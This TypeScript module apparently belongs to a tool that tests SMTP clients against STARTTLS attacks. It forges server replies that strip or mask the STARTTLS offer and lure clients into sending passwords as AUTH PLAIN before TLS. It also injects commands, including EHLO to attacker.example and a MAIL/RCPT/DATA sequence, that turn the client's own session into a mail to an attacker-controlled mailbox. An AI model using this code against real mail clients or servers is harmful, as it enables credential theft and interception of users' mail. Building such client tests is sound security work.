/** The lies that plaintext SMTP makes possible about STARTTLS (RFC 3207 section 6). */
import { concat, fromText, toText } from '../../bytes/hex';
import type { Account, Forgery } from '../dialect';
import { plainInBase64 } from '../sasl';

import { capabilitiesOf, parseReply, writeReply } from './reply';
import { helloOf, type Service } from './service';

export const forgeryOf = (service: Service): Forgery => ({
  withoutOffer: (message) => {
    const reply = parseReply(message);
    if (reply === null) return message;
    const offers = [false, ...capabilitiesOf(reply).map(({ keyword }) => keyword === 'STARTTLS')];
    if (!offers.includes(true)) return message;
    const lines = reply.lines.filter((_, i) => !offers[i]);
    return writeReply(reply.code, service === 'submission' ? withPlain(lines) : lines);
  },
  maskedOffer: (message) =>
    fromText(toText(message).replace(/(\r\n\d{3}[ -])STARTTLS(?=[ \r])/gi, '$1XXXXXXXA')),
  refusal: (_, permanence) =>
    permanence === 'temporary'
      ? writeReply(454, ['4.7.0 TLS not available due to local problem'])
      : writeReply(502, ['5.5.1 Error: command not implemented']),
  lies: {
    // The client's own EHLO and all that it then says become the text of a mail to the attacker.
    commands: (request, { account, mailbox }) =>
      concat(
        request,
        lines(
          `${helloOf(service)} attacker.example`,
          ...(service === 'submission' ? [login(account)] : []),
          `MAIL FROM:<${mailbox}>`,
          `RCPT TO:<${mailbox}>`,
          'DATA',
        ),
      ),
    // An answer to each thing that the client will say, up to the recipient: who has moved, to the attacker.
    responses: (goAhead, { host, mailbox, task }) =>
      concat(
        goAhead,
        writeReply(250, [task.host, '8BITMIME', ...(service === 'submission' ? ['AUTH PLAIN'] : [])]),
        ...(service === 'submission' ? [writeReply(235, ['2.7.0 Authentication successful'])] : []),
        writeReply(250, ['2.1.0 Ok']),
        writeReply(551, [`5.1.6 The user has moved to <${mailbox.split('@')[0]}@${host}>`]),
      ),
    // REQUIRETLS is a promise only inside TLS (RFC 8689 section 2), and a list from before it is no promise.
    capabilities: (offer) => {
      const reply = parseReply(offer);
      if (reply === null) return offer;
      const kept = reply.lines.filter((line) => !/^(?:SIZE|8BITMIME|ENHANCEDSTATUSCODES)\b/i.test(line));
      const told = [...kept, 'REQUIRETLS'];
      return writeReply(reply.code, service === 'submission' ? withPlain(told) : told);
    },
    'masked-greeting': (greeting) =>
      fromText(
        toText(greeting).replace(
          /^(\d{3}[ -])(.*)$/gm,
          (_, code: string, rest: string) => code + rest.replace(/[^20\r]/g, '*'),
        ),
      ),
    'no-capabilities': () => writeReply(502, ['5.5.2 Error: command not recognized']),
    'no-answer': () => writeReply(354, ['do something else']),
    ...(service === 'submission' ? liesToUser : {}),
  },
});

const liesToUser: NonNullable<Forgery['lies']> = {
  session: (request, { account }) => concat(lines(login(account)), request),
  logins: (offer) => {
    const reply = parseReply(offer);
    if (reply === null) return offer;
    const kept = reply.lines.filter((line) => !/^STARTTLS\b/i.test(line));
    return writeReply(reply.code, withPlain(kept.map((line) => (isAuth(line) ? 'AUTH PLAIN' : line))));
  },
};

const login = (account: Account): string => `AUTH PLAIN ${plainInBase64(account)}`;

const lines = (...said: readonly string[]): Uint8Array =>
  fromText(said.map((line) => `${line}\r\n`).join(''));

const isAuth = (line: string): boolean => /^AUTH(?: |$)/i.test(line);

/** Where the server lists no login before TLS, the client would keep its password to itself: the lie invites it to say it. */
function withPlain(lines: readonly string[]): readonly string[] {
  const [mechanisms = ''] = lines
    .slice(1)
    .filter(isAuth)
    .map((line) => line.slice(4).trim());
  if (mechanisms.toUpperCase().split(' ').includes('PLAIN')) return lines;
  return [...lines.filter((line, i) => i === 0 || !isAuth(line)), `AUTH PLAIN ${mechanisms}`.trimEnd()];
}
